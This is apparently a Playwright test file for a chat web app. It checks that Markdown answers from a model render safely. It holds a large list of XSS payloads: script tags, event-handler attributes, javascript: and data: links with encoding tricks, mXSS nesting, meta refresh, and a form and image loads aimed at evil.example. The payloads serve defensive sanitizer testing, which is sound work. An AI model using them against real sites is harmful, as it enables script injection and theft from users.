import { expect, test } from "@playwright/test";
import { answerWith, ask, box, comeToRest, open, openAsItIs, status, useOwnOrigin } from "./support.js";

const EVIL = "https://evil.example";

/** An image of the site that the page shows nowhere. */
const LAST = "/icons/512.png";

/** What Markdown needs. */
const ALLOWED = "a blockquote br code del em h1 h2 h3 h4 h5 h6 hr li ol p pre strong table tbody td th thead tr ul".split(" ");

const ANSWERS = {
  "HTML that runs, loads, sends or moves": `
<script>window.ran = true</script><script src="${EVIL}/a.js"></script>
<img src="${EVIL}/b.png" onerror="window.ran = true"><img src=x onerror=window.ran=true>
<svg onload="window.ran = true"><script>window.ran = true</script><use href="${EVIL}/c.svg#d"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.ran = true"></style></mglyph></table></mtext></math>
<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/"><link rel="stylesheet" href="${EVIL}/e.css">
<style>body { display: none; background: url(${EVIL}/f.png) }</style>
<form action="${EVIL}/"><input name="key" autofocus onfocus="window.ran = true"><button>Send</button></form>
<iframe src="javascript:parent.ran = true"></iframe><object data="${EVIL}/g"></object><embed src="${EVIL}/h">
<video src="${EVIL}/i.mp4" autoplay></video><audio src="${EVIL}/j.mp3" autoplay></audio><p style="background: url(${EVIL}/k.png)">
<details open ontoggle="window.ran = true"><marquee onstart="window.ran = true"><template><img src=x onerror=window.ran=true></template>
</p></div></section></main></body><div data-testid="answer"><dialog open>x</dialog><!-- --!><img src=x onerror=window.ran=true> -->
<![CDATA[<img src=x onerror=window.ran=true>]]><?xml <img src=x onerror=window.ran=true> ?>`,
  "links that are scripts or documents, however written": `
[a](javascript:window.ran=true) [b](JaVaScRiPt:window.ran=true) [c](java&#x0A;script:window.ran=true)
[d](&#106;avascript:window.ran=true) [e](\\javascript:window.ran=true) [f](<javascript:window.ran=true>) [g](  javascript:window.ran=true )
[h](data:text/html,<script>opener.ran=true</script>) [i](vbscript:x) [j](blob:${EVIL}/x) [k](file:///etc/passwd) [l](//evil.example/m)
[n](x&#39;onclick=window.ran=true) [o](https://a.example/"onmouseover="window.ran=true) [p](https://b.example 'x" onfocus="window.ran=true" autofocus="')
[q][r] [s] <javascript:window.ran=true> <data:text/html,x> <https://c.example/?"onclick=window.ran=true> <someone@example.org> <javascript@evil.example>

[r]: javascript:window.ran=true "x"
[s]: data:text/html;base64,PHNjcmlwdD4= 'y" onclick="window.ran=true'`,
  "images by every spelling": `
![a](${EVIL}/a.png) ![b][c] [![d](${EVIL}/d.png)](javascript:window.ran=true) ![e](javascript:window.ran=true)
![f](data:image/svg+xml,<svg onload=alert(1)>) ![g" onerror="window.ran=true](x "h\\" onerror=\\"window.ran=true")

[c]: ${EVIL}/c.png "t"

| ![i](${EVIL}/i.png) | <img src=x onerror=window.ran=true> |
|:-:|--:|
| \`</td><img src=x onerror=window.ran=true>\` | ![j](${EVIL}/j.png) |

\`\`\`html" onmouseover="window.ran=true
</code></pre><img src=x onerror=window.ran=true>
\`\`\`
# </h1><img src=x onerror=window.ran=true> {#id onclick=window.ran=true}
1. <a href="javascript:window.ran=true">x</a>`,
};

for (const [what, answer] of Object.entries(ANSWERS)) {
  test(`an answer does nothing: ${what}`, async ({ page }) => {
    await openAsItIs(page);
    await useOwnOrigin(page);
    await answerWith(page, { choices: [{ index: 0, delta: { content: answer }, finish_reason: "stop" }] });
    const address = page.url();
    const moved = [];
    page.on("framenavigated", (frame) => moved.push(frame.url()));
    page.on("dialog", (dialog) => moved.push(dialog.message()));
    page.on("popup", (popup) => moved.push(popup.url()));
    const requests = [];
    page.on("request", (request) => requests.push(request.url()));
    await box(page).fill("What do you do?");
    await ask(page).click();
    await expect(status(page)).toContainText("Done");
    await expect(page.getByTestId("answer")).toHaveCount(1);

    const { names, attributes, links } = await page.getByTestId("answer").evaluate((answer) => {
      const all = [...answer.querySelectorAll("*")];
      return {
        names: [...new Set(all.map((element) => element.localName))],
        attributes: [...new Set(all.flatMap((element) => element.getAttributeNames()))],
        links: [...answer.querySelectorAll("a")].map(({ href, rel, target }) => ({ href, rel, target })),
      };
    });
    expect(names.filter((name) => !ALLOWED.includes(name))).toEqual([]);
    expect(attributes.filter((name) => !["align", "class", "href", "rel", "start", "target", "title"].includes(name))).toEqual([]);
    for (const { href, rel, target } of links) {
      expect(href.startsWith(`${address}#`) || /^(https?:\/\/[a-c]\.example|mailto:)/.test(href), href).toBe(true);
      expect({ rel, target }).toEqual({ rel: "noopener noreferrer nofollow", target: "_blank" });
    }
    if (what.startsWith("links")) expect(links.map(({ href }) => href)).toContain("mailto:someone@example.org");
    // What loads or runs by itself has been asked for before this, and is drawn.
    await page.evaluate((url) => {
      const image = new Image();
      image.src = url;
      return image.decode();
    }, LAST);
    await comeToRest(page);
    expect(await page.evaluate(() => window.ran)).toBeUndefined();
    expect(requests.filter((url) => !url.endsWith("/v1/chat/completions") && !url.endsWith(LAST))).toEqual([]);
    expect(moved).toEqual([]);
    expect(page.url()).toBe(address);
    await expect(box(page)).toBeVisible();
  });
}

test("an answer that nests without end leaves the page in working order", async ({ page }) => {
  await open(page);
  await useOwnOrigin(page);
  const nested = [">".repeat(5_000), "- ".repeat(2_000), "[".repeat(20_000), "*a_".repeat(10_000), "<div>".repeat(5_000)];
  await answerWith(page, { choices: [{ index: 0, delta: { content: `${nested.join("x\n\n")}\n\nThe end` }, finish_reason: "stop" }] });
  await box(page).fill("How deep?");
  await ask(page).click();
  await expect(status(page)).toContainText("Done");
  await expect(page.getByTestId("answer")).toContainText("The end");
  await box(page).fill("Still here?");
  await expect(ask(page)).toBeEnabled();
});
